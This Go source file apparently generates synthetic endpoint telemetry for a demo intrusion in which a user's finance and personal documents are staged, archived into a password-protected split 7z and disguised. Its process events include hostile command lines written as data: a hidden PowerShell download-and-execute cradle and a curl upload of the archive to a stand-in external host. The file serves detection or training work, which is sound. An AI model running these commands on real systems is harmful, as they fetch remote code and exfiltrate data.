package gen

import (
	"fmt"
	"time"
)

// The finance documents the intruder copies from the file server.
func financeDocs() []string {
	return []string{
		"Q3-forecast.xlsx", "Q3-forecast-v2.xlsx", "Q3-board-pack.docx", "Q3-variance.xlsx",
		"FY26-budget.xlsx", "FY26-budget-notes.docx", "FY26-headcount.xlsx", "payroll-2026-01.xlsx",
		"payroll-2026-02.xlsx", "AP-aging-Feb.xlsx", "AR-aging-Feb.xlsx", "bank-reconciliation-Feb.xlsx",
		"cashflow-13wk.xlsx", "audit-findings-2025.docx", "audit-response.docx", "tax-provision-Q4.xlsx",
		"transfer-pricing.docx", "M&A-project-heron.docx", "heron-valuation.xlsx", "heron-synergies.xlsx",
		"heron-LOI-draft.docx", "vendor-master.xlsx", "capex-plan.xlsx", "opex-by-dept.xlsx",
		"pricing-2026.xlsx", "discount-approvals.xlsx", "bonus-pool.xlsx", "comp-bands.xlsx",
		"insurance-renewal.docx", "lease-schedule.xlsx", "debt-covenants.docx", "investor-update-Mar.docx",
		"forecast-assumptions.docx", "revenue-by-customer.xlsx", "top-50-customers.xlsx", "churn-analysis.xlsx",
		"board-minutes-2026-02.docx", "cfo-memo-restructuring.docx", "severance-model.xlsx", "legal-holds.docx",
	}
}

// Alice's documents the intruder later copies with PowerShell.
func aliceDocs() []string {
	return []string{
		"passwords-old.xlsx", "vpn-setup.docx", "org-chart.xlsx", "Q3 plan.docx", "expenses-Jan.xlsx",
		"expenses-Feb.xlsx", "contracts-index.xlsx", "NDA-acme.docx", "NDA-globex.docx", "travel-policy.docx",
		"performance-review-team.docx", "1on1-notes.docx", "salary-letter.docx", "benefits-2026.docx",
	}
}

// attack is the story: Alice's session is taken over; the intruder copies
// finance documents from the file server into a hidden folder under
// C:\Users\Public, packs them into a password-protected split 7z in %TEMP%,
// hides a volume as report.dat and also copies Alice's own documents.
func (b *builder) attack(w *world) {
	// The intruder's shell, started from a malicious shortcut at 09:10.
	ps := b.spawn(at(9, 10, 41), w.wsExplorer, w.alice, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		`"powershell.exe" -nop -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')"`, 7716)
	b.spawn(at(9, 11, 2), ps, w.alice, `C:\Windows\System32\whoami.exe`, `"whoami.exe" /all`, 7804)
	b.spawn(at(9, 11, 20), ps, w.alice, `C:\Windows\System32\net.exe`, `"net.exe" view \\fileserver`, 7820)

	// 1. bulk copy command: cmd /c robocopy from the finance share.
	cmd := b.spawn(at(9, 12, 3), ps, w.alice, `C:\Windows\System32\cmd.exe`,
		`cmd.exe /c robocopy \\fileserver\finance C:\Users\Public\Music\.cache *.xlsx *.docx /s`, 7932)
	robo := b.spawn(at(9, 12, 3).Add(180*time.Millisecond), cmd, w.alice, `C:\Windows\System32\Robocopy.exe`,
		`robocopy  \\fileserver\finance C:\Users\Public\Music\.cache *.xlsx *.docx /s`, 7948)
	b.spawn(at(9, 12, 3).Add(150*time.Millisecond), cmd, w.alice, `C:\Windows\System32\conhost.exe`,
		`\??\C:\WINDOWS\system32\conhost.exe 0xffffffff -ForceV1`, 7940)

	// 2. bulk file staging: 40 documents land in the hidden folder.
	t := at(9, 12, 5)
	for i, name := range financeDocs() {
		b.write(t, robo, "FileCreated", `C:\Users\Public\Music\.cache\`+name, 18_000+int64(i*7919%260_000))
		t = t.Add(w.jitter(600*time.Millisecond, 2900*time.Millisecond))
	}

	// 3. archive in staging: a password-protected split 7z in %TEMP%. The
	// shell expands %TEMP% for cmd.exe; 7z sees the expanded path.
	cmd2 := b.spawn(at(9, 20, 9), ps, w.alice, `C:\Windows\System32\cmd.exe`,
		`cmd.exe /c C:\ProgramData\7z.exe a -pS3cret -v100m %TEMP%\q3.7z C:\Users\Public\Music\.cache\*`, 8120)
	sz := b.spawn(at(9, 20, 9).Add(210*time.Millisecond), cmd2, w.alice, `C:\ProgramData\7z.exe`,
		`C:\ProgramData\7z.exe  a -pS3cret -v100m C:\Users\alice\AppData\Local\Temp\q3.7z C:\Users\Public\Music\.cache\*`, 8136)
	tmp := `C:\Users\alice\AppData\Local\Temp\`
	b.fileEvent(at(9, 20, 11), sz, "FileCreated", tmp+"q3.7z.001", "", 104_857_600, `{"FileType":"SevenZip"}`)
	b.fileEvent(at(9, 20, 19), sz, "FileCreated", tmp+"q3.7z.002", "", 38_211_584, `{"FileType":"SevenZip"}`)
	// The second volume is renamed to look like a report; its content is
	// still a 7z volume.
	b.fileEvent(at(9, 21, 40), ps, "FileRenamed", tmp+"report.dat", tmp+"q3.7z.002", 38_211_584, `{"FileType":"SevenZip"}`)

	// 4. PowerShell Copy-Item of Alice's documents into $env:TEMP\stage.
	cp := b.spawn(at(9, 31, 12), ps, w.alice, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		`"powershell.exe" -nop -c "Copy-Item -Recurse C:\Users\alice\Documents\* $env:TEMP\stage"`, 8304)
	t = at(9, 31, 14)
	for i, name := range aliceDocs() {
		b.write(t, cp, "FileCreated", tmp+`stage\`+name, 9_000+int64(i*4099%90_000))
		t = t.Add(w.jitter(80*time.Millisecond, 400*time.Millisecond))
	}

	// Clean-up of the first volume after upload (the egress itself is out of
	// the demo's scope).
	b.spawn(at(9, 40, 2), ps, w.alice, `C:\Windows\System32\curl.exe`,
		fmt.Sprintf(`"curl.exe" -s -T %sq3.7z.001 https://203.0.113.77/u`, tmp), 8412)
	b.fileEvent(at(9, 44, 30), ps, "FileDeleted", tmp+"q3.7z.001", "", 104_857_600, `{"FileType":"SevenZip"}`)
}
